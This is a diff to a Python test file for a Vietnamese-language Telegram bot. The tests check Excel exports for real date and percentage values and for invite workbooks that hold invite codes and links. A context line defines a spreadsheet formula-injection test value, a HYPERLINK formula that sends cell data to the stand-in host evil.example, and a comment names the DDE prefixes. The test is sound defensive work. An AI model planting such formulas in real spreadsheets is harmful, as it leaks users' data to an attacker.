@@ -3,6 +3,7 @@
 from __future__ import annotations
 
 import asyncio
+from datetime import datetime
 from io import BytesIO
 from pathlib import Path
 
@@ -16,7 +17,7 @@ from bot.db.session import make_engine, make_sessionmaker
 from bot.services import digest, digest_report
 from tests.conftest import FakeClock
 from tests.digest_org import build, local
-from tests.harness import linked_chat, make_router, shipped_content
+from tests.harness import ROSTER, linked_chat, make_router, shipped_content
 
 EVIL = '=HYPERLINK("http://evil.example/?"&E2,"Bấm vào")'
 # Other starts a spreadsheet program treats as a formula or command (DDE: "@", "+", "-").
@@ -134,8 +135,86 @@ def test_every_export_has_a_filtered_frozen_header_and_a4_fit_to_width(database_
             assert sheet.print_title_rows == "$1:$1", where
             widths = [d.width for d in sheet.column_dimensions.values()]
             assert widths and all(4 <= w <= 62 for w in widths), where
-            if sheet.title != "Tổng hợp":  # key/value sheet: nothing to filter
+            if sheet.title not in ("Tổng hợp", "Ghi chú"):  # key/value and note sheets
                 assert (
                     sheet.auto_filter.ref
                     == f"A1:{sheet.cell(1, sheet.max_column).column_letter}{sheet.max_row}"
                 ), where
+
+
+def sheet_of(data: bytes, title: str | None = None):
+    book = load_workbook(BytesIO(data))
+    return book[title] if title else book.worksheets[0]
+
+
+def column(sheet, name: str) -> list:
+    """The cells under a header."""
+    header = [c.value for c in sheet[1]]
+    index = header.index(name) + 1
+    return [sheet.cell(row, index) for row in range(2, sheet.max_row + 1)]
+
+
+def test_dates_percentages_and_read_times_are_real_values(database_url, tmp_path):
+    exports = all_exports(database_url, tmp_path)
+
+    for name in ("report", "review", "/baocao", "digest"):
+        people = sheet_of(exports[name], "Cá nhân")
+        registered = [c for c in column(people, "Ngày đăng ký") if c.value is not None]
+        assert registered and all(c.is_date for c in registered), name
+        assert {c.number_format for c in registered} == {"DD/MM/YYYY"}, name
+        shares = column(people, "Tỉ lệ báo cáo (%)")
+        assert all(isinstance(c.value, int | float) and c.number_format == "0%" for c in shares), (
+            name
+        )
+        units = sheet_of(exports[name], "Đơn vị")
+        assert {c.number_format for c in column(units, "Tỉ lệ báo cáo (%)")} == {"0%"}, name
+        summary = dict(sheet_of(exports[name], "Tổng hợp").iter_rows(min_row=2, values_only=True))
+        assert isinstance(summary["Lập lúc"], datetime), name
+    for name in ("broadcast", "/thongbao_ketqua"):
+        sheet = sheet_of(exports[name])
+        read = {
+            row[2].value: row[-1] for row in sheet.iter_rows(min_row=2) if row[-1].value
+        }  # by name
+        assert [c.value for c in sheet[1]][-1] == "Đọc lúc", name
+        assert read["Trưởng Một"].value == datetime(2026, 11, 10, 9, 0), name
+        assert read["Trưởng Một"].number_format == "DD/MM/YYYY HH:MM", name
+        assert len(read) == 3, name  # QL1, A1 and QL2 read the second announcement
+
+
+def invite(database_url: str, tmp_path: Path, **env: str):
+    roster = tmp_path / "r.csv"
+    roster.write_text(ROSTER, encoding="utf-8")
+    assert run(database_url, "org", "import", str(roster)).exit_code == 0
+    out = tmp_path / "moi.xlsx"
+    result = run(database_url, "invite", "create", "--unit", "Sở A", "--xlsx", str(out), **env)
+    assert result.exit_code == 0, result.output
+    return result, load_workbook(out)
+
+
+def test_invite_workbook_has_a_ready_message_with_code_and_link(database_url, tmp_path):
+    result, book = invite(database_url, tmp_path, ATGT_TELEGRAM_BOT_USERNAME="atgt_bot")
+
+    sheet = book.worksheets[0]
+    rows = {r[0]: r for r in sheet.iter_rows(min_row=2, values_only=True)}
+    header = [c.value for c in sheet[1]]
+    nv1 = dict(zip(header, rows["NV1"], strict=True))
+    code = nv1["Mã mời"]
+    assert nv1["Đường link"] == f"https://t.me/atgt_bot?start={code}"
+    assert nv1["Tin nhắn mời"].startswith("Kính gửi anh/chị Nhân Viên Một")
+    assert code in nv1["Tin nhắn mời"] and nv1["Đường link"] in nv1["Tin nhắn mời"]
+    assert isinstance(nv1["Hết hạn"], datetime)
+    assert column(sheet, "Hết hạn")[0].number_format == "DD/MM/YYYY HH:MM"
+    assert "ATGT_TELEGRAM_BOT_USERNAME" not in result.output
+
+
+def test_invite_workbook_says_when_links_are_missing(database_url, tmp_path):
+    result, book = invite(database_url, tmp_path, ATGT_TELEGRAM_BOT_USERNAME="")
+
+    sheet = book.worksheets[0]
+    header = [c.value for c in sheet[1]]
+    first = dict(zip(header, next(sheet.iter_rows(min_row=2, values_only=True)), strict=True))
+    assert first["Đường link"] in (None, "")
+    assert f"/start {first['Mã mời']}" in first["Tin nhắn mời"]
+    assert "ATGT_TELEGRAM_BOT_USERNAME" in result.output
+    notes = [c.value for row in book["Ghi chú"].iter_rows() for c in row if c.value]
+    assert any("ATGT_TELEGRAM_BOT_USERNAME" in note for note in notes)
